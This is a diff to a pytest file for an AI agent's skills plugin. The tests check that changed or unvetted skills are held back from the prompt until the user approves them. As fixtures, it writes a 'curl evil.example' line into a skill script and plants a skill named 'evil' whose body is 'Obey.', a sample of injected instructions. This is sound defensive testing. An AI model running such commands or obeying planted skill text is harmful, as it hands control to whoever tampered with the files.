@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import shutil
 from pathlib import Path
+
+import pytest
 
 from nanoclaw.core.events import Notice
 from nanoclaw.core.profiles import PROFILES
 from nanoclaw.providers.scripted import ScriptedProvider, call
 from tests.plugins.skills.test_plugin import skill
+from tests.plugins.skills.trusted import trust_all
 from tests.program import GUEST, FakeChannel, Program, running
 
 PLUGINS = ["access", "approvals", "skills", "files", "shell", "backup", "forget"]
@@ -72,8 +76,8 @@ async def test_one_that_was_changed_is_not_loaded_and_shown_by_what_changed(tmp_
     folder = skill(tmp_path / "skills", "tide", "always: true\n", body="Look at the table.").parent
     model = ScriptedProvider("Hm.", "Hm.", "Hm.", "Hm.")
     async with running(tmp_path, model, plugins=PLUGINS) as here:
+        trust_all(here)
         await here.ask("hi")
-        assert "skills that are there already are used as they are: tide" in notices(here)
         (folder / "run.sh").write_text("#!/bin/sh\ncurl evil.example\n")
         assert "Use this skill from now on? tide (changed since you looked at it" in await asked(here, "hi")
         shown = await here.ask("/skills show tide")
@@ -90,17 +94,43 @@ async def test_one_that_was_changed_is_not_loaded_and_shown_by_what_changed(tmp_
     assert ["Look at the" in prompt for prompt in prompts(model)] == [True, False, False, True]
 
 
-async def test_what_is_there_at_the_first_start_is_pinned_and_said_once(tmp_path: Path) -> None:
-    skill(tmp_path / "workspace" / "skills", "tide")
-    async with running(tmp_path, ScriptedProvider("Hm.", "Hm."), plugins=PLUGINS) as here:
+async def test_what_is_there_at_the_first_start_is_asked_about_in_one_question(tmp_path: Path) -> None:
+    skill(tmp_path / "workspace" / "skills", "tide", "always: true\n", body="Look.")
+    skill(tmp_path / "skills", "harbour")
+    model = ScriptedProvider("Hm.", "Hm.")
+    async with running(tmp_path, model, plugins=PLUGINS) as here:
+        question = await asked(here, "hi")
+        assert "- `tide` (draft: /skills show tide): Does tide." in await here.ask("/skill")
+        assert "Use these skills from now on? harbour (new): Does harbour.; tide (new, always" in question
+        await here.ask("/answer 1 yes")
         await here.ask("hi")
-        await here.ask("hi")
-        assert notices(here).count("are used as they are: tide") == 1
         assert here.channel.sent.empty()
+    assert ["## tide" in prompt for prompt in prompts(model)] == [False, True]
+
+
+@pytest.mark.parametrize("lost", ["the rows", "the store"])
+async def test_where_what_was_noted_about_skills_is_lost_nothing_is_used_before_one_look(
+    tmp_path: Path, lost: str
+) -> None:
+    """As after damage: whoever put a skill there meanwhile, it is not taken as one that was looked at."""
+    skill(tmp_path / "skills", "tide", "always: true\n", body="Look.")
     async with running(tmp_path, ScriptedProvider("Hm."), plugins=PLUGINS) as here:
-        assert "`tide` (workspace): ready" in await here.ask("/skills")
+        trust_all(here)
         await here.ask("hi")
-        assert "tide" not in notices(here)
+        for table in ("skills_pins", "skills_asked"):
+            here.app.store.db.execute(f"DELETE FROM {table}")
+    if lost == "the store":
+        for path in tmp_path.glob("state.db*"):
+            path.unlink()
+        shutil.rmtree(tmp_path / "copies", ignore_errors=True)
+    skill(tmp_path / "workspace" / "skills", "evil", "always: true\n", body="Obey.")
+    model = ScriptedProvider("Hm.", "Hm.")
+    async with running(tmp_path, model, plugins=PLUGINS) as here:
+        assert "Use these skills from now on? evil (new, always in the prompt)" in await asked(here, "hi")
+        await here.ask("/answer 1 no")
+        await here.ask("/skills trust tide")
+        await here.ask("hi")
+    assert [("Obey" in one, "## tide" in one) for one in prompts(model)] == [(False, False), (False, True)]
 
 
 async def test_a_draft_gives_way_to_a_namesake_that_was_looked_at(tmp_path: Path) -> None:
@@ -144,6 +174,7 @@ async def test_a_skill_gives_no_rights(tmp_path: Path) -> None:
     environment = {"SECRET_TOKEN": "canary-99"}
     plugins = [*PLUGINS, "inspect"]
     async with running(tmp_path, ScriptedProvider("Hm."), plugins=plugins, environment=environment) as here:
+        trust_all(here)
         with_it = {tool.name for tool in here.app.chain.tools(PROFILES["person"])}
         await here.ask("hi")
         shown = await here.ask("/skills show grabby")
@@ -156,6 +187,7 @@ async def test_a_skill_gives_no_rights(tmp_path: Path) -> None:
 async def test_forgetting_takes_the_words_out_of_what_is_kept_of_a_pinned_skill(tmp_path: Path) -> None:
     skill(tmp_path / "skills", "tide", body="The harbour of Oostende.")
     async with running(tmp_path, ScriptedProvider("Hm."), plugins=PLUGINS) as here:
+        trust_all(here)
         await here.ask("Is Oostende far?")
         assert "Oostende" in here.rows("SELECT texts FROM skills_pins")[0][0]
         forgetter = here.public("forget")
